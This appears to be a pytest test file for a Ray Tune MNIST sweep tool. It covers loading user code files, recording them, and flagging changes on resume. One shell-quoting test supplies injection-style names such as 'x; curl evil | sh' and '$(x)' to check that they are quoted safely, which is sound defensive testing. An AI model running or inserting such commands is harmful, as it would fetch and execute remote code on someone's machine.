"""Code in the user's files: found, loaded, recorded, and wanted again by a resume."""

import importlib
import inspect
import json
import pickle
import shlex
import subprocess
import sys
from types import ModuleType

import pytest
from ray import tune
from waiting import LONG_S

from mnist_tune import TrialConfig, UserError
from mnist_tune.own_code.loading import check_again, load_own, names_in, own_code, register_own, sources
from mnist_tune.own_code.registry import ENTRIES, Entry, register
from mnist_tune.results.journal import resume_command
from mnist_tune.terminal import printable

NET = """from layers import WIDTH
from mnist_tune import Network


def mlp(data, width=WIDTH):
    return Network(None, None)


size = 3
"""


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    """A folder with a network, and a module beside it. What a test loads is forgotten."""
    monkeypatch.setattr(sys, "path", list(sys.path))
    monkeypatch.chdir(tmp_path)
    before = set(sys.modules)
    (tmp_path / "net.py").write_text(NET)
    (tmp_path / "layers.py").write_text("WIDTH = 64\n")
    yield tmp_path
    for name in set(sys.modules) - before:
        del sys.modules[name]


def test_a_network_in_a_file_with_a_module_beside_it():
    load_own({"architecture": ["net.py:mlp", "net.py:mlp(width=3)", "mlp-16-tanh"]})
    assert list(ENTRIES["architecture"]) == ["net.py:mlp"]
    texts, loads = pickle.loads(pickle.dumps(own_code()))
    assert {key: load().__name__ for key, load in loads.items()} == {("architecture", "net.py:mlp"): "mlp"}
    assert sorted(texts) == ["layers", "net"]


@pytest.mark.parametrize("taken", [False, True])
def test_functions_of_one_file_share_its_module_wherever_they_are_named_from(folder, monkeypatch, taken):
    """Also if the module of another file has its name."""
    if taken:
        monkeypatch.setitem(sys.modules, "net", ModuleType("net"))
    monkeypatch.setenv("HOME", str(folder))
    (folder / "net.py").write_text(NET + "other = mlp\n")
    load_own({"architecture": ["net.py:mlp", "~/net.py:other"]})
    named = ENTRIES["architecture"]
    assert named["net.py:mlp"].factory is named["~/net.py:other"].factory


def test_a_file_that_was_mended_can_be_loaded(folder):
    (folder / "broken.py").write_text("x = undefined\n")
    with pytest.raises(UserError, match=r"broken\.py can't be loaded"):
        load_own({"architecture": ["broken.py:mlp"]})
    (folder / "broken.py").write_text(NET)
    load_own({"architecture": ["broken.py:mlp"]})
    assert "broken.py:mlp" in ENTRIES["architecture"]


def test_another_process_knows_what_is_sent_to_it(folder):
    (folder / "opt.py").write_text("def sgd(learning_rate):\n    pass\n")
    load_own({"architecture": ["net.py:mlp"]})
    load_own({"optimizer": ["opt.py:sgd"]})
    code = own_code()
    for entries in ENTRIES.values():
        entries.clear()
    register_own(code)
    assert list(ENTRIES["architecture"]) == ["net.py:mlp"]
    assert list(ENTRIES["optimizer"]) == ["opt.py:sgd"]


@pytest.mark.parametrize(("place", "files"), [("site-packages", ["net.py"]), ("mine", ["layers.py", "net.py"])])
def test_the_modules_beside_a_file_go_with_it_unless_they_are_installed_ones(folder, place, files):
    (folder / place).mkdir()
    for name in ("net.py", "layers.py"):
        (folder / name).rename(folder / place / name)
    load_own({"architecture": [f"{place}/net.py:mlp"]})
    [entry] = sources({"architecture": [f"{place}/net.py:mlp"]})
    assert sorted(entry["files"]) == files


def test_a_file_whose_module_has_the_name_of_another(folder):
    (folder / "json.py").write_text("def adam(learning_rate):\n    pass\n")
    load_own({"optimizer": ["json.py:adam"]})
    assert list(ENTRIES["optimizer"]) == ["json.py:adam"]
    import json

    assert json.dumps([1]) == "[1]"


def test_a_function_in_a_package(folder):
    (folder / "package").mkdir()
    (folder / "package" / "nets.py").write_text(NET.replace("from layers import WIDTH", "WIDTH = 2"))
    (folder / "package" / "__init__.py").write_text("")
    load_own({"architecture": ["package.nets:mlp"]})
    assert "package.nets:mlp" in ENTRIES["architecture"]
    [entry] = sources({"architecture": ["package.nets:mlp"]})
    assert sorted(entry["files"]) == ["__init__.py", "nets.py"]


WRONG = {
    "nett.py:mlp": "--architecture nett.py:mlp: there is no file .*nett.py; write FILE.py:FUNCTION",
    "net.py:mpl": "--architecture net.py:mpl: net.py has no function 'mpl'; did you mean 'mlp'?",
    "net.py:size": "net.py has no function 'size'",
    "nets:mlp": "--architecture nets:mlp: No module named 'nets'; write FILE.py:FUNCTION or package.module:FUNCTION",
    "broken.py:mlp": r"broken.py can't be loaded, NameError: name 'undefined' is not defined \(line 2\)",
    "calls.py:mlp": r"calls.py can't be loaded, NameError: name 'undefined' is not defined \(line 2\)",
    "syntax.py:mlp": r"syntax.py can't be loaded, SyntaxError: .* \(line 1\)",
    "needs.py:mlp": r"needs.py can't be loaded, ModuleNotFoundError: No module named 'not_there' \(line 1\)",
    "exits.py:mlp": r"exits.py can't be loaded, SystemExit: 3 \(line 3\)",
    "net.py:mlp(width=f())": "is no name with arguments",
    "net.py:mlp(width=wide)": r"\(quote texts: 'wide'\)",
}


@pytest.mark.parametrize("name", WRONG)
def test_what_can_not_be_loaded_is_one_line(folder, name):
    (folder / "broken.py").write_text("x = 1\ny = undefined\n")
    (folder / "calls.py").write_text("def mlp():\n    return undefined\n\n\nmlp()\n")
    (folder / "syntax.py").write_text("def mlp(:\n")
    (folder / "exits.py").write_text("import sys\n\nsys.exit(3)\n")
    (folder / "needs.py").write_text("import not_there\n")
    with pytest.raises(UserError, match=WRONG[name]) as caught:
        load_own({"architecture": [name]})
    assert "\n" not in str(caught.value)
    assert not ENTRIES["architecture"]


def test_a_resume_says_where_the_code_has_changed(folder):
    load_own({"architecture": ["net.py:mlp"]})
    recorded = sources({"architecture": ["net.py:mlp(width=3)", "mlp-16-tanh"], "optimizer": ["sgd"]})
    [entry] = recorded
    assert (entry["flag"], entry["name"], sorted(entry["files"])) == (
        "architecture",
        "net.py:mlp",
        ["layers.py", "net.py"],
    )
    recorded, said = printable(json.loads(json.dumps(recorded))), []  # as it is read from sweep.json
    [entry] = recorded
    entry["files"]["no_longer_loaded.py"] = {"sha256": "0"}
    check_again(recorded, "results/x", said.append)
    assert said == []
    (folder / "net.py").write_text(NET.replace("size = 3", "size = 4" + "0" * 100))
    check_again(recorded, "results/x", said.append)
    (folder / "net.py").write_text(NET.replace("from mnist_tune import Network\n", ""))
    check_again(recorded, "results/x", said.append)
    assert said == [
        "note: net.py has changed since the sweep started, first in line 9: size = 4" + "0" * 72,
        "note: net.py has changed since the sweep started, first in line 2: without 'from mnist_tune import Network'",
    ]


def test_tabs_are_no_change(folder):
    (folder / "tabs.py").write_text("def mlp(data):\n\tsize = 3\n\treturn size\n")
    load_own({"architecture": ["tabs.py:mlp"]})
    recorded, said = printable(json.loads(json.dumps(sources({"architecture": ["tabs.py:mlp"]})))), []
    (folder / "tabs.py").write_text("def mlp(data):\n\tsize = 3\n\treturn 4\n")
    check_again(recorded, "results/x", said.append)
    recorded[0]["files"]["tabs.py"]["lines"] = [3]  # not written by us
    check_again(recorded, "results/x", said.append)
    changed = "note: tabs.py has changed since the sweep started"
    assert said == [f"{changed}, first in line 3: return 4", changed]


def test_of_a_file_that_grew_too_large_to_keep_no_line_is_named(folder, monkeypatch):
    load_own({"architecture": ["net.py:mlp"]})
    recorded, said = sources({"architecture": ["net.py:mlp"]}), []
    monkeypatch.setattr("mnist_tune.own_code.loading.MOST_TEXT", len(NET))
    (folder / "net.py").write_text(NET + "more = 1\n")
    check_again(recorded, "results/x", said.append)
    assert said == ["note: net.py has changed since the sweep started"]


def test_a_resume_without_the_code_says_what_to_name(folder):
    load_own({"architecture": ["net.py:mlp"]})
    recorded = sources({"architecture": ["net.py:mlp"]})
    ENTRIES["architecture"].pop("net.py:mlp")
    with pytest.raises(
        UserError, match=r"name it again: --resume results/x --architecture net\.py:mlp, or register it"
    ):
        check_again(recorded, "results/x", print)
    meta = {"name": "lr_regimes", "code": [*recorded, {"flag": "optimizer", "name": "my opt.py:adam", "files": {}}]}
    assert resume_command(meta, "results/x") == "mnist-tune regimes --resume results/x", "nobody has named it here"
    ENTRIES["architecture"]["net.py:mlp"] = ENTRIES["optimizer"]["my opt.py:adam"] = Entry(lambda: len)
    command = resume_command(meta, "results/x")
    assert command == "mnist-tune regimes --resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'"


@pytest.mark.parametrize("name", ["x; curl evil | sh", "--address=evil:6379", "it's", "$(x)"])
def test_the_name_of_recorded_code_is_a_word_for_the_shell(folder, name):
    recorded = [{"flag": "architecture", "name": name, "files": {}}]
    with pytest.raises(UserError) as caught:
        check_again(recorded, "results/x y", print)
    given = str(caught.value).partition("name it again: ")[2].partition(", or register")[0]
    words = ["--resume", "results/x y", *([f"--architecture={name}"] if name[0] == "-" else ["--architecture", name])]
    assert shlex.split(given) == words


def test_a_recorded_text_of_a_million_lines_is_compared_at_once(folder):
    load_own({"architecture": ["net.py:mlp"]})
    recorded = sources({"architecture": ["net.py:mlp"]})
    recorded[0]["files"]["net.py"] = {"sha256": "", "lines": [""] * 1_000_000}
    said = []
    check_again(recorded, "x", said.append)
    assert said == ["note: net.py has changed since the sweep started, first in line 1: from layers import WIDTH"]


def test_a_resume_elsewhere_says_where_the_code_was_named(folder, monkeypatch):
    load_own({"architecture": ["net.py:mlp"]})
    recorded = sources({"architecture": ["net.py:mlp"]})
    ENTRIES["architecture"].pop("net.py:mlp")
    for there, said in ((folder, ""), (folder.parent, f", in {folder}")):
        monkeypatch.chdir(there)
        with pytest.raises(UserError, match=rf"run; name it again{said}: --resume x --architecture net\.py:mlp, or"):
            check_again(recorded, "x", pytest.fail)


def test_what_a_factory_takes_can_be_told_in_another_process(folder):
    load_own({"architecture": ["net.py:mlp"]})
    register_own(pickle.loads(pickle.dumps(own_code())))
    assert list(inspect.signature(ENTRIES["architecture"]["net.py:mlp"].factory).parameters) == ["data", "width"]


def test_all_names_in_a_search_space_are_loaded_and_recorded(folder):
    for name in "abcd":
        (folder / f"{name}.py").write_text("def f(data):\n    pass\n")
    space = {
        "architecture": tune.choice(["a.py:f", "b.py:f(3)", "mlp-4-tanh"]),
        "optimizer": tune.grid_search(["c.py:f", "d.py:f"]),
        "learning_rate": tune.loguniform(0.1, 1),
    }
    load_own(space, TrialConfig())
    recorded = [(one["flag"], one["name"]) for one in sources(names_in(space))]
    assert recorded == [
        ("architecture", "a.py:f"),
        ("architecture", "b.py:f"),
        ("optimizer", "c.py:f"),
        ("optimizer", "d.py:f"),
    ]


def test_what_is_changed_in_a_session_is_loaded_recorded_and_sent(folder):
    """The file itself, and a module beside it, of as many bytes and within the second of the former."""

    def seen():
        load_own({"architecture": ["net.py:mlp"]})
        register_own(pickle.loads(pickle.dumps(own_code())))
        [entry] = sources({"architecture": ["net.py:mlp"]})
        width = inspect.signature(ENTRIES["architecture"]["net.py:mlp"].factory).parameters["width"].default
        return width, entry["files"]["layers.py"]["lines"], entry["files"]["net.py"]["lines"][-1]

    assert seen() == (64, ["WIDTH = 64"], "size = 3")
    before = ENTRIES["architecture"]["net.py:mlp"].factory
    assert seen() == (64, ["WIDTH = 64"], "size = 3")
    assert ENTRIES["architecture"]["net.py:mlp"].factory is before
    (folder / "layers.py").write_text("WIDTH = 32\n")
    assert seen() == (32, ["WIDTH = 32"], "size = 3")
    (folder / "net.py").write_text(NET.replace("size = 3", "size = 4").replace("=WIDTH", "=WIDTH + 1"))
    assert seen() == (33, ["WIDTH = 32"], "size = 4")


def test_a_function_registered_from_a_module_is_as_its_file_says(folder):
    sys.path.insert(0, str(folder))
    factory = importlib.import_module("net").mlp
    register("mine")(factory)
    assert sorted(own_code()[0]) == ["layers", "net"]
    assert own_code()[1]["architecture", "mine"]() is factory
    (folder / "net.py").write_text(NET.replace("size = 3", "size = 4"))
    load_own({"architecture": "mine"})
    assert ENTRIES["architecture"]["mine"].factory is not factory
    [entry] = sources({"architecture": ["mine"]})
    assert entry["files"]["net.py"]["lines"][-1] == "size = 4"
    (folder / "net.py").write_text("x = undefined\n")
    with pytest.raises(UserError, match=r"--architecture mine: mine can't be loaded, NameError: name 'undefined'"):
        load_own({"architecture": "mine"})


def test_a_function_of_the_session_that_uses_an_edited_module_is_sent_with_its_new_text(folder):
    sys.path.insert(0, str(folder))
    layers = importlib.import_module("layers")
    use = eval("lambda data: layers.WIDTH", {"layers": layers, "__name__": "__main__"})
    register("mine")(use)
    load_own({"architecture": ["mine", "net.py:mlp"]})
    (folder / "layers.py").write_text("WIDTH = 32\n")
    load_own({"architecture": "mine"})
    assert own_code()[1]["architecture", "mine"]()(None) == 32


def test_a_sweep_after_a_file_was_edited_sends_the_new_text_though_only_the_other_file_is_named(folder):
    """What is named no more is neither loaded nor sent, and a resume in the same session still finds it."""
    (folder / "opt.py").write_text("def sgd(learning_rate):\n    return 1\n")
    load_own({"architecture": "net.py:mlp", "optimizer": "opt.py:sgd"})
    recorded, said = sources({"optimizer": ["opt.py:sgd"]}), []
    (folder / "opt.py").write_text("def sgd(learning_rate):\n    return 2\n")
    load_own({"architecture": "net.py:mlp"})
    assert list(own_code()[1]) == [("architecture", "net.py:mlp")]
    check_again(recorded, "results/x", said.append)
    assert said == ["note: opt.py has changed since the sweep started, first in line 2: return 2"]
    assert own_code()[1]["optimizer", "opt.py:sgd"]()(0.1) == 2


def test_a_network_and_an_optimizer_share_the_classes_of_a_module_here_and_elsewhere(folder):
    (folder / "common.py").write_text("class Rate:\n    pass\n")
    for name in ("net", "opt"):
        (folder / f"{name}.py").write_text("import common\n\n\ndef f(data):\n    return common.Rate\n")
    load_own({"architecture": "net.py:f", "optimizer": "opt.py:f"})
    assert len({load()(0) for load in own_code()[1].values()}) == 1
    script = f"""
import pickle
import shlex
from mnist_tune.own_code import loading, registry
loading.register_own(pickle.loads({pickle.dumps(own_code())!r}))
print(len({{one.factory(0) for known in registry.ENTRIES.values() for one in known.values()}}))
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd="/", timeout=LONG_S)
    assert done.stdout == "1\n", done.stderr
